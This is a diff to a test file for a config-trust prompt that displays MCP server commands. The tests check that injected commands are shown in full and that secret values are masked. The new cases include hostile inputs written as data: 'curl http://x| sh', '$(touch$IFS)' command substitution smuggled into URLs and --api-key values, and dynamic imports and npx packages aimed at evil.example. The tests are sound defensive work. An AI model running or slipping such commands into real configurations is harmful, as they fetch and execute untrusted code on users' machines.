@@ -219,12 +219,31 @@ describe("duet config trust", () => {
   test.each([
     ["sh", "-c", "API_TOKEN=$(touch$IFS/x;);exec node srv.mjs quiet"],
     ["sh", "-c", 'eval "$1"', "--token", "touch x; curl http://x| sh"],
-    ["node", "--api-key=$(touch x)", "https://user:touch%20x@evil.example/0123456789abcdefghij?key=touch"],
+    ["node", "--api-key=$(touch x)", "https://user:$(touch$IFS)@evil.example/0123456789abcdefghij?key=touch"],
+    ["node", "-e", "import(process.argv[2])", "--token", "evil", "https://user:touch%20x@evil.example/", "--key=evil"],
+    ["cmd", "/c", "npx", "--api-key", "evil-package-2"],
+    ["npx", "-y", "-p", "good", "--api-key", "evil-package-2"],
+    ["node", "--key", "./evil", "--token", "evil.mjs", "--secret", "--import=x", "--key", "http://evil.example"],
     ["sh", "-c", `Bearer sk-0123456789-0123456789 ${"touch x;".repeat(1000)}`],
   ])("hides nothing of a command that looks like a secret: %s %s", async (command, ...args) => {
     const place = home({ "code/repo/duet.config.json": JSON.stringify({ mcpServers: { a: { command, args } } }) });
     const [, started = ""] = (await trust(place)).text.split("\n");
     for (const word of args) expect(started.includes(word) || started.includes(JSON.stringify(word))).toBe(true);
+  });
+
+  test.each([
+    [["node", "mcp.mjs", "--api-key", "hunter2"], "node mcp.mjs --api-key …"],
+    [
+      ["npx", "-y", "pkg", "--token", "hunter2", "postgres://bob:hunter2@db/x"],
+      "npx -y pkg --token … postgres://bob:…@db/x",
+    ],
+    [["docker", "run", "-e", "A=b", "image", "--password=hunter2"], "docker run -e A=b image --password=…"],
+    [["server", "--token=hunter2", "redis://:hunter2@h/1", "--verbose"], "server --token=… redis://:…@h/1 --verbose"],
+  ])("masks the values of secret options and the passwords of addresses: %j", async ([command, ...args], started) => {
+    const text = JSON.stringify({ mcpServers: { a: { command, args } } }, undefined, 2);
+    const { text: shown } = await trust(home({ "code/repo/duet.config.json": text }));
+    expect(shown.split("\n")[1]).toBe(`  mcpServers.a: ${started}`);
+    expect(shown).not.toContain("hunter2");
   });
 
   test("masks secrets wherever they stand by name, and only there", async () => {
